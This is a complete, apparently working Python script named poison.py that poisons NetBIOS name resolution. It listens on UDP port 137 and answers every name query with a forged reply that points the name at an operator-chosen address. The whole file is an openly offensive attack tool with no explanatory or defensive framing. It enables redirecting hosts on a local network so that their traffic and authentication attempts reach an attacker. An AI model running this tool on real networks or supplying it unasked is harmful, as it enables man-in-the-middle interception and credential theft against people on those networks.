#!/usr/bin/python3
"""Answers every NetBIOS name query that it hears with its own address. RFC 1002 4.2.13

    poison.py ADDRESS
"""
import socket
import struct
import sys


def main(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("", 137))
        while True:
            query, sender = listener.recvfrom(1024)
            flags, questions = struct.unpack(">HH", query[2:6])
            if flags & 0xF800 or questions != 1 or sender[0] == address:
                continue
            name = query[12:46]
            head = query[:2] + struct.pack(">HHHHH", 0x8500, 0, 1, 0, 0)
            record = name + struct.pack(">HHLHH", 0x20, 1, 300000, 6, 0) + socket.inet_aton(address)
            listener.sendto(head + record, sender)


if __name__ == "__main__":
    main(*sys.argv[1:])
